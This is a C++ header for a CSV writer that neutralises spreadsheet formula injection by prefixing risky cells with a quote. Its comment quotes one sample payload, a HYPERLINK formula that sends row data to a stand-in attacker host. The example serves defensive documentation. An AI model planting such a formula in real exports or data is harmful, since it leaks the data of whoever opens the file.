// CSV as every output of expeer writes it: standard output (`--format csv`), exports, the
// rejects of an import, the report's tables. One writer, so that no output can forget what
// a spreadsheet does with a cell.
//
// A spreadsheet opening a CSV runs a cell that starts with = + - @ (or a tab or CR before
// one) as a formula: `=HYPERLINK("https://evil.example/?"&A2, "Click")` in a member's name
// would send the row of whoever opens the export. Following OWASP's CSV injection advice,
// every cell that starts so gets a ' before it (spreadsheets show the rest as text, and
// `members import` takes the ' off again). The full-width forms ＝ ＋ － ＠ are treated
// the same: East Asian locales of Excel read them as the ASCII ones, and a ' in front of a
// rare leading character costs nothing since the import undoes it. A plain number (-12,
// +3.5) is left alone: it is a number to any spreadsheet, never a formula, and a report's
// "change" column must stay numeric.
//
// Fields are quoted as RFC 4180 says: when they hold the separator, a quote, CR or LF, and
// also when they hold a comma, a semicolon or a tab whatever the separator, so that a
// spreadsheet guessing another separator (French Excel splits on ';') still sees one cell.
#pragma once

#include <string>
#include <vector>

namespace expeer {

// One CSV record with its end of line: each field neutralised, then quoted where needed.
std::string csv_line(const std::vector<std::string>& fields, char separator = ',',
                     bool crlf = false);

// neutralise_formula puts a ' before a value a spreadsheet would run (and before a value that
// is already ' followed by such a start, so that restore_formula gives every value back
// exactly, whatever it was).
std::string neutralise_formula(const std::string& value);
std::string restore_formula(const std::string& value);

} // namespace expeer
